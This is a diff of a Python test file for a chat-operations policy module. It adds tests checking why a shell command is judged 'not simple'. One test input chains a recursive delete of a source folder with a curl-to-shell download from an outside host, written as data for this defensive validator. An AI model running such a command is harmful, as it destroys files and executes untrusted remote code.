@@ -15,7 +15,7 @@ from chatops.domain.decisions import (
 )
 from chatops.domain.errors import ConfigError
 from chatops.domain.tools import CallFacts
-from chatops.policy.argv import simple_words
+from chatops.policy.argv import simple_words, why_not_simple
 from chatops.policy.matching import covers
 from chatops.policy.patterns import (
     matches,
@@ -93,6 +93,22 @@ def test_simple_commands_have_words(command: str, words: tuple[str, ...]) -> Non
 )
 def test_everything_else_has_none(command: str) -> None:
     assert simple_words(command) == ()
+
+
+@pytest.mark.parametrize(
+    ("command", "reason"),
+    [
+        ("rm -rf src && curl x.org | sh > y", "joins several commands"),
+        ("a || b", "joins several commands"),
+        ("a | b; c", "a pipe"),
+        ("a > b", "redirects"),
+        ('echo "$HOME"', "a variable"),
+        ("sort *.txt", ""),
+        ("git status", ""),
+    ],
+)
+def test_the_reason_why_a_command_is_not_simple_is_the_first_sign(command: str, reason: str) -> None:
+    assert reason in why_not_simple(command) and bool(why_not_simple(command)) == bool(reason)
 
 
 def test_globs_become_names_only_where_asked_for() -> None:
